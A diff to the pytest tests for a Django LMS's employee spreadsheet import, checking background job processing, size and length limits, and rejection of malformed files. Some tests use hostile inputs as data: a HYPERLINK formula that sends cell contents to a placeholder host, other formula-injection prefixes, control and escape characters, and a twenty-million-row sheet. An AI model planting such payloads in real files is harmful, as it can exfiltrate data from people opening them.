@@ -1,4 +1,8 @@
+import csv
+import datetime
 import io
+import posixpath
+import time
 
 import pytest
 from django.core import mail
@@ -6,12 +10,18 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import Workbook
 
 from lms.akun.models import User
-from lms.organisasi.imports import employee_import_run
+from lms.organisasi.imports import (
+    employee_import_process,
+    employee_import_run,
+    employee_import_start,
+)
 from lms.organisasi.models import Employee, EmployeeImport
 
+from ..core.xlsx_files import SHEET_PART, inline_row, sheet_xml, with_parts, workbook_bytes
 from ..factories import EmployeeFactory
 
 pytestmark = pytest.mark.django_db
@@ -191,13 +201,16 @@ def test_management_command_imports_a_good_file(org_tree, tmp_path, capsys):
     assert Employee.objects.count() == 3
 
 
-def test_admin_upload_shows_the_report(client, admin_lms):
+def test_admin_upload_shows_the_report(client, admin_lms, django_capture_on_commit_callbacks):
     client.force_login(admin_lms)
     upload = SimpleUploadedFile(
         "pegawai.csv", csv_bytes("1234,Pendek,x@bawaslu.go.id,32.04,Staf,PNS"), "text/csv"
     )
 
-    response = client.post(reverse("organisasi_import:index"), {"file": upload}, follow=True)
+    # The job runs once the upload commits (eagerly in tests), before the page is opened.
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(reverse("organisasi_import:index"), {"file": upload})
+    response = client.get(response.url)
 
     assert response.status_code == 200
     job = EmployeeImport.objects.get()
@@ -207,10 +220,66 @@ def test_admin_upload_shows_the_report(client, admin_lms):
     assert "NIP harus terdiri atas 18 angka." in content
 
 
-def test_large_upload_runs_as_a_job_with_progress(
-    client, admin_lms, settings, django_capture_on_commit_callbacks
+def test_the_upload_request_only_stores_the_file_and_the_job_parses_it(
+    client, admin_lms, media_root, django_capture_on_commit_callbacks, monkeypatch
 ):
-    settings.LMS_IMPORT_SYNC_MAX_ROWS = 2
+    # given: a record of every time a file is read, and a queue that only records
+    from lms.core import spreadsheets
+    from lms.organisasi import imports
+
+    reads = []
+    real_reader = spreadsheets.spreadsheet_rows
+
+    def reader(*args, **kwargs):
+        reads.append(kwargs["filename"])
+        return real_reader(*args, **kwargs)
+
+    monkeypatch.setattr(imports, "spreadsheet_rows", reader)
+    queued = []
+    monkeypatch.setattr("lms.organisasi.tasks.employee_import_task.delay", queued.append)
+    client.force_login(admin_lms)
+    upload = SimpleUploadedFile("daftar pegawai.csv", csv_bytes(*GOOD_ROWS[:3]), "text/csv")
+
+    # when: the upload
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(reverse("organisasi_import:index"), {"file": upload})
+
+    # then: stored and queued, not read
+    job = EmployeeImport.objects.get()
+    assert response.status_code == 302
+    assert response.url == reverse("organisasi_import:detail", args=[job.pk])
+    assert queued == [job.pk]
+    assert reads == []
+    assert (job.status, job.total_rows, job.original_name) == ("pending", 0, "daftar pegawai.csv")
+    assert (media_root / job.file.name).read_bytes() == csv_bytes(*GOOD_ROWS[:3])
+    assert Employee.objects.filter(user__email="budi@bawaslu.go.id").count() == 0
+
+    # when: the job
+    from lms.organisasi.tasks import employee_import_task
+
+    employee_import_task(job.pk)
+
+    # then: the job read it, once, and imported it
+    job.refresh_from_db()
+    assert len(reads) == 1
+    assert (job.status, job.total_rows, job.created_count) == ("done", 3, 3)
+
+
+def test_an_upload_past_the_size_limit_is_refused_by_the_form(client, admin_lms, settings):
+    settings.LMS_IMPORT_MAX_FILE_BYTES = 100
+    client.force_login(admin_lms)
+    upload = SimpleUploadedFile("pegawai.csv", csv_bytes(*GOOD_ROWS), "text/csv")
+
+    response = client.post(reverse("organisasi_import:index"), {"file": upload})
+
+    assert response.status_code == 200
+    assert "Berkas lebih besar dari batas" in response.content.decode()
+    assert not EmployeeImport.objects.exists()
+
+
+def test_large_upload_runs_as_a_job_with_progress(
+    client, admin_lms, django_capture_on_commit_callbacks
+):
     client.force_login(admin_lms)
     upload = SimpleUploadedFile("pegawai.csv", csv_bytes(*GOOD_ROWS[:3]), "text/csv")
 
@@ -255,3 +324,275 @@ def test_reimport_with_a_new_email_changes_the_login_address(org_tree):
     user = Employee.objects.get(nip="198503122010031001").user
     assert user.email == "ahmad.fauzi@bawaslu.go.id"
     assert user.emailaddress_set.get().email == "ahmad.fauzi@bawaslu.go.id"
+
+
+# Every field is checked whole, and every job ends with its reason --------------------------
+
+
+def csv_rows_bytes(*rows: list[str]) -> bytes:
+    """A CSV written by the csv module, so that tabs, CRs and quotes inside cells survive."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow(HEADER.split(","))
+    writer.writerows(rows)
+    return buffer.getvalue().encode()
+
+
+def run_job(content: bytes, name: str = "pegawai.csv") -> EmployeeImport:
+    """Upload `content` as the admin page does, then run its job as the worker does."""
+    job = employee_import_start(uploaded_file=SimpleUploadedFile(name, content), uploaded_by=None)
+    employee_import_process(import_id=job.pk)
+    job.refresh_from_db()
+    return job
+
+
+def reasons_by_line(job: EmployeeImport) -> dict[int, str]:
+    return {e["line"]: " ".join(e["reasons"]) for e in job.errors}
+
+
+AHMAD = ["198503122010031001", "Ahmad Fauzi", "ahmad@bawaslu.go.id", "32.04", "Staf", "PNS"]
+
+
+def ahmad_with(**changes) -> list[str]:
+    columns = ["nip", "name", "email", "unit", "position", "kind"]
+    return [changes.get(column, value) for column, value in zip(columns, AHMAD, strict=True)]
+
+
+@pytest.mark.parametrize(
+    ("row", "words"),
+    [
+        pytest.param(
+            ahmad_with(name="A" * 250), "Kolom nama berisi 250 karakter; batasnya 200", id="name"
+        ),
+        pytest.param(
+            ahmad_with(email="a" * 64 + "@" + "b" * 204 + ".go.id"),
+            "Kolom email berisi 275 karakter; batasnya 254",
+            id="email",
+        ),
+        pytest.param(
+            ahmad_with(position="J" * 300),
+            "Kolom jabatan berisi 300 karakter; batasnya 200",
+            id="position",
+        ),
+        pytest.param(
+            ahmad_with(unit="3" * 40), "Kolom kode unit berisi 40 karakter; batasnya 32", id="unit"
+        ),
+        pytest.param(
+            ahmad_with(name="Ahmad\x00Fauzi"), "Kolom nama berisi karakter kendali", id="nul-name"
+        ),
+        pytest.param(
+            ahmad_with(position="Staf\x1b[2J"), "Kolom jabatan berisi karakter kendali", id="esc"
+        ),
+        pytest.param(
+            ahmad_with(nip="19850312201003100\x00"),
+            "Kolom NIP berisi karakter kendali",
+            id="nul-nip",
+        ),
+        pytest.param(
+            ahmad_with(email="ahmad\x00@bawaslu.go.id"),
+            "Kolom email berisi karakter kendali",
+            id="nul-email",
+        ),
+    ],
+)
+def test_a_bad_field_is_named_with_its_line_and_nothing_is_saved(org_tree, media_root, row, words):
+    # given: a good first row and a bad second one
+    good = ["199212302019022003", "Siti Aminah", "siti@bawaslu.go.id", "32.73", "Operator", "PPPK"]
+
+    # when
+    job = run_job(csv_rows_bytes(good, row))
+
+    # then: rejected (not stuck, not crashed), the line named, nothing saved, the upload gone
+    assert job.status == EmployeeImport.Status.REJECTED
+    assert list(reasons_by_line(job)) == [3]
+    assert words in reasons_by_line(job)[3]
+    assert "\x00" not in str(job.errors)  # PostgreSQL's JSON refuses a NUL
+    assert Employee.objects.count() == 0
+    assert User.objects.count() == 0
+    assert not job.file
+    assert list(media_root.rglob("*.csv")) == []
+
+
+def test_an_over_long_name_for_an_existing_employee_is_refused_not_cut(org_tree):
+    employee_import_run(content=csv_rows_bytes(AHMAD), filename="pegawai.csv")
+    long_name = "Prof. Dr. " + "Ahmad Fauzi " * 20
+
+    job = run_job(csv_rows_bytes(ahmad_with(name=long_name.strip())))
+
+    assert job.status == EmployeeImport.Status.REJECTED
+    assert "Kolom nama berisi 249 karakter; batasnya 200" in reasons_by_line(job)[2]
+    assert Employee.objects.get().full_name == "Ahmad Fauzi"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://contoh.test/?x="&A1,"Klik")',
+        "+62 812 3456",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_name_that_starts_like_a_formula_is_refused(org_tree, name):
+    result = employee_import_run(content=csv_rows_bytes(ahmad_with(name=name)), filename="a.csv")
+
+    assert result.rejected
+    assert result.errors[0]["line"] == 2
+    assert "Kolom nama tidak boleh diawali tanda =, +, -, @, tab atau CR" in " ".join(
+        result.errors[0]["reasons"]
+    )
+    assert Employee.objects.count() == 0
+
+
+def test_a_position_or_email_that_starts_like_a_formula_is_refused(org_tree):
+    rows = [
+        ahmad_with(position="=1+2"),
+        ahmad_with(nip="", email="=x@bawaslu.go.id", kind="ad hoc"),
+    ]
+
+    result = employee_import_run(content=csv_rows_bytes(*rows), filename="a.csv")
+
+    by_line = {e["line"]: " ".join(e["reasons"]) for e in result.errors}
+    assert "Kolom jabatan tidak boleh diawali" in by_line[2]
+    assert "Kolom email tidak boleh diawali" in by_line[3]
+
+
+@pytest.mark.parametrize(
+    ("content", "line", "words"),
+    [
+        pytest.param(
+            csv_bytes(GOOD_ROWS[0]) + b'"' + (b"x" * 1000 + b"\n") * 200,
+            3,
+            "tidak dapat dibaca",
+            id="unterminated-quote",
+        ),
+        pytest.param(
+            csv_bytes(GOOD_ROWS[0]) + ",Dédé,d@bawaslu.go.id,32.04,Staf,PNS\n".encode("latin-1"),
+            3,
+            "bukan teks UTF-8",
+            id="not-utf8",
+        ),
+    ],
+)
+def test_a_malformed_csv_ends_the_job_with_its_reason_and_removes_the_upload(
+    org_tree, media_root, content, line, words
+):
+    job = run_job(content)
+
+    assert job.status == EmployeeImport.Status.REJECTED
+    assert words in reasons_by_line(job)[line]
+    assert not job.file
+    assert list(media_root.rglob("*.csv")) == []
+    assert Employee.objects.count() == 0
+
+
+@pytest.mark.parametrize(
+    ("sheet", "words"),
+    [
+        pytest.param(
+            sheet_xml(inline_row(1, *HEADER.split(",")) + inline_row(2, *AHMAD))[:-30],
+            "tidak dapat dibaca",
+            id="truncated",
+        ),
+        pytest.param(
+            sheet_xml(
+                inline_row(1, *HEADER.split(",")) + '<row r="2"><c r="A2" t="s"><v>99</v></c></row>'
+            ),
+            "rusak",
+            id="shared-string-index",
+        ),
+    ],
+)
+def test_a_broken_sheet_ends_the_job_with_its_reason_and_removes_the_upload(
+    org_tree, media_root, sheet, words
+):
+    content = with_parts(workbook_bytes([["x"]]), {SHEET_PART: sheet})
+
+    job = run_job(content, "pegawai.xlsx")
+
+    assert job.status == EmployeeImport.Status.REJECTED
+    assert words in " ".join(job.errors[0]["reasons"])
+    assert not job.file
+    assert list(media_root.rglob("*.xlsx")) == []
+
+
+def test_an_employee_sheet_with_twenty_million_blank_rows_is_refused_within_seconds(org_tree):
+    sheet = sheet_xml(
+        inline_row(1, *HEADER.split(","))
+        + inline_row(2, *AHMAD)
+        + inline_row(20_000_000, *GOOD_ROWS[1].split(","))
+    )
+    content = with_parts(workbook_bytes([["x"]]), {SHEET_PART: sheet})
+
+    started = time.monotonic()
+    job = run_job(content, "pegawai.xlsx")
+
+    assert time.monotonic() - started < 3
+    assert job.status == EmployeeImport.Status.REJECTED
+    assert reasons_by_line(job)[20_000_000].startswith(
+        "Berkas berisi lebih dari 200000 baris (baris kosong ikut dihitung)"
+    )
+    assert Employee.objects.count() == 0
+
+
+def test_an_unexpected_error_ends_the_job_failed_with_its_reason(
+    client, admin_lms, media_root, monkeypatch
+):
+    # given: the save step breaks
+    def broken(*args, **kwargs):
+        raise RuntimeError("disk penuh")
+
+    monkeypatch.setattr("lms.organisasi.imports.employee_import_apply", broken)
+
+    # when
+    job = run_job(csv_bytes(*GOOD_ROWS[:2]))
+
+    # then: failed with its reason, on the row and on the page; the upload removed
+    assert job.status == EmployeeImport.Status.FAILED
+    assert job.is_finished
+    assert "kesalahan sistem (RuntimeError)" in job.errors[0]["reasons"][0]
+    assert not job.file
+    assert list(media_root.rglob("*.csv")) == []
+    client.force_login(admin_lms)
+    page = client.get(reverse("organisasi_import:detail", args=[job.pk])).content.decode()
+    assert "Impor gagal; tidak ada data yang disimpan" in page
+    assert "kesalahan sistem (RuntimeError)" in page
+
+
+def test_the_sweeper_fails_a_lost_job_with_its_reason_and_removes_its_upload(media_root):
+    # given: a job whose message was lost long ago, and one just uploaded
+    from lms.organisasi.tasks import employee_import_sweep_task
+
+    lost = employee_import_start(
+        uploaded_file=SimpleUploadedFile("lama.csv", csv_bytes(GOOD_ROWS[0])), uploaded_by=None
+    )
+    EmployeeImport.objects.filter(pk=lost.pk).update(
+        created_at=timezone.now() - datetime.timedelta(hours=1)
+    )
+    fresh = employee_import_start(
+        uploaded_file=SimpleUploadedFile("baru.csv", csv_bytes(GOOD_ROWS[0])), uploaded_by=None
+    )
+
+    # when
+    assert employee_import_sweep_task() == 1
+
+    # then
+    lost.refresh_from_db()
+    fresh.refresh_from_db()
+    assert lost.status == EmployeeImport.Status.FAILED
+    assert "tidak selesai dalam 30 menit" in lost.errors[0]["reasons"][0]
+    assert not lost.file
+    assert fresh.status == EmployeeImport.Status.PENDING
+    assert [p.name for p in media_root.rglob("*.csv")] == [posixpath.basename(fresh.file.name)]
+
+
+def test_a_long_report_keeps_its_first_thousand_lines_and_counts_the_rest(org_tree):
+    rows = [f",Orang {n},orang{n}@bawaslu.go.id,99.99,Staf,Non-ASN" for n in range(1005)]
+
+    job = run_job(csv_bytes(*rows))
+
+    assert job.status == EmployeeImport.Status.REJECTED
+    assert len(job.errors) == 1001
+    assert job.errors[-1]["reasons"] == ["... dan 5 baris lain juga bermasalah."]
